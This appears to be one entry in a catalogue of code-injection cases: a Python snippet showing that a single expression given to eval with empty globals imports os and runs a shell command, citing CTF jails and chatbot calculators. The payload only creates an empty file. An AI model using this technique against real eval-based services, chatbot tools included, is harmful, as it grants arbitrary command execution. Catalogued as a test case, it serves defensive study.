"""An expression alone imports and calls.

Known from: "eval is safe without statements", CTF jails and the calculators of chat bots
Effect: made
Host: builtins_eval = eval
Given: builtins_eval
"""
builtins_eval("[module.system(': > made') for module in [__import__('os')]]", {})
